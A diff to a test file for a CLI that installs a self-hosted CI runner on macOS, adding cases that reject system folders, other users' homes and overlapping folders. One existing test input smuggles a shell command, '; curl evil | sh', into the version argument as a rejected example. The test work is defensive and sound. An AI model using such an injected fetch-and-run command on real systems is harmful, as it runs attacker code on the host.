@@ -82,6 +82,17 @@ def test_runner_refuses_system_users_and_folders() -> None:
         ["--install-dir", "/Users/Shared/pgolf-runner"],
         ["--install-dir", "/usr/local"],
         ["--runner-version", "2.3; curl evil | sh"],
+        # third review: what a list of exact top-level folders let through
+        ["--home", "/System/Volumes/Data"],
+        ["--home", "/users/shared"],  # APFS is case-insensitive: /Users/Shared
+        ["--home", "/private/var/root"],
+        ["--home", "/Users/admin"],  # another user's home
+        ["--home", "/Users/Shared/pgolf-data"],
+        ["--data-dir", "/private/etc"],
+        ["--data-dir", "/Users/admin"],
+        ["--install-dir", "/tmp/pgolf"],
+        ["--install-dir", "/users/shared/pgolf"],
+        ["--install-dir", "/System/Volumes/Data/Users/Shared/x"],
     ):
         res = CliRunner().invoke(cli, ["runner", "--repo", "me/lab", *args])
         assert res.exit_code == InputError.exit_code and args[0] in res.output, (args, res.output)
@@ -95,3 +106,19 @@ def test_runner_version_is_chosen_and_lands_in_the_download() -> None:
     res = CliRunner().invoke(cli, ["runner", "--repo", "me/lab", "--runner-version", "2.330.0"])
     assert res.exit_code == 0
     assert "releases/download/v2.330.0/actions-runner-osx-arm64-2.330.0.tar.gz" in res.output
+
+
+def test_runner_folders_never_overlap() -> None:
+    """Third review: home = install folder had root delete its own template and supervisor before
+    every job (wedged for good); home = data folder deleted the shards every job."""
+    for args in (
+        ["--home", "/Users/pgolf-runner", "--install-dir", "/usr/local/pgolf-runner"],  # fine
+        ["--data-dir", "/Users/pgolf-runner/data"],  # inside the home root wipes
+        ["--data-dir", "/usr/local/pgolf-runner/data"],  # inside the install folder
+    ):
+        res = CliRunner().invoke(cli, ["runner", "--repo", "me/lab", *args])
+        assert (res.exit_code == 0) == (args[0] == "--home"), (args, res.output)
+        if res.exit_code:
+            assert "must not overlap" in res.output or "system folder" in res.output, res.output
+    res = CliRunner().invoke(cli, ["runner", "--repo", "me/lab", "--data-dir", "/Users/pgolf-runner/data"])
+    assert "--home': must not overlap --data-dir" in res.output, res.output
